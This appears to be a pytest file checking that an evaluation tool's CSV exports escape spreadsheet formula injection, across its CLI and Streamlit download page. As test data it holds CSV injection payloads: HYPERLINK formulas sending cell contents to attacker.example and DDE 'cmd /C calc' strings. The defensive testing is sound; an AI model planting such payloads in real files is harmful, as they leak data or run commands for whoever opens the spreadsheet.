"""CSV exports (issue 21): a cell a spreadsheet would run as a formula is written as text, numbers stay numbers.

Questions, answers and file names in an export were written by a document, a model or whoever uploaded the eval set;
`=HYPERLINK("https://attacker.example/?"&A1)` in a downloaded CSV is a formula once a spreadsheet opens it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pandas as pd
import pytest
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from evaluation import __main__ as cli
from evaluation.export import csv_text, spreadsheet_safe
from evaluation.runstore import RunStore, SampleRow
from tests.apptest import fresh_app

# one of each way a spreadsheet starts a formula (OWASP's = + - @, tab, carriage return; after spaces; full-width)
FORMULAS = ['=HYPERLINK("https://attacker.example/?d="&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "   =1+1", "\uff1d1+1", "-"]
PLAIN = ["-0.5", "+3", "-1e-05", "12", "The colony was named Fort Caroline.", "a = b", "", "e-mail"]


def test_a_formula_cell_gets_an_apostrophe_and_anything_else_is_left_as_it_is():
    for cell in FORMULAS:
        assert spreadsheet_safe(cell) == "'" + cell
    for cell in [*PLAIN, None, -0.5, 3, float("nan")]:
        assert spreadsheet_safe(cell) is cell


def test_the_csv_reads_back_with_text_as_text_and_numbers_as_numbers():
    table = pd.DataFrame({"answer": FORMULAS, "score": [-0.5] * len(FORMULAS), "=cmd": ["-0.5"] * len(FORMULAS)})
    back = list(csv.reader(io.StringIO(csv_text(table), newline="")))
    assert back[0] == ["answer", "score", "'=cmd"]
    assert [row[0] for row in back[1:]] == ["'" + cell for cell in FORMULAS]
    assert {row[1] for row in back[1:]} == {row[2] for row in back[1:]} == {"-0.5"}  # a number, not "'-0.5"


HOSTILE_QUESTION = '=HYPERLINK("https://attacker.example/?leak="&B2,"Fort Caroline")'
HOSTILE_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


def store_hostile_run(runs_db) -> str:
    runs = RunStore(runs_db)
    run_id = runs.create_run("hostile.jsonl", 1, {"top_k": 4, "metrics": ["faithfulness"]})
    runs.add_sample(run_id, SampleRow(
        idx=0, item_id="-1", question=HOSTILE_QUESTION, reference="-0.5", answerable=True, kind=None,
        answer=HOSTILE_ANSWER, abstained=False, abstain_reason=None, outcome="correct_answer",
        contexts=[{"id": "c1", "source": "kb/huguenots.md", "score": 0.71, "text": "Fort Caroline."}],
        metrics=[{"metric": "faithfulness", "status": "scored", "score": 1.0, "reason": None, "seconds": 1.0,
                  "repeat": 0}], error=None, seconds=-0.5))
    runs.finish_run(run_id)
    return run_id


def assert_escaped(text: str) -> None:
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["question"] == "'" + HOSTILE_QUESTION and row["answer"] == "'" + HOSTILE_ANSWER
    assert (row["id"], row["reference"], row["seconds"], row["faithfulness"]) == ("-1", "-0.5", "-0.5", "1.0")


def test_the_cli_export_escapes_formulas(settings, capsys):
    run_id = store_hostile_run(settings.runs_db)
    assert cli.main(["export", run_id, "--format", "csv"]) == 0
    assert_escaped(capsys.readouterr().out)


@pytest.fixture
def app(sample_data) -> Iterator[AppTest]:
    with fresh_app() as app:
        yield app


def test_the_evaluation_pages_download_escapes_formulas(app, sample_data, monkeypatch):
    store_hostile_run(sample_data.runs_db)
    downloads: dict[str, str] = {}
    real = DeltaGenerator.download_button

    def recording(self, label, data, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003 - st.download_button's own
        downloads[label] = data
        return real(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    app.run()
    app.switch_page("views/evaluation.py").run()
    assert not app.exception
    assert_escaped(downloads["Download CSV"])
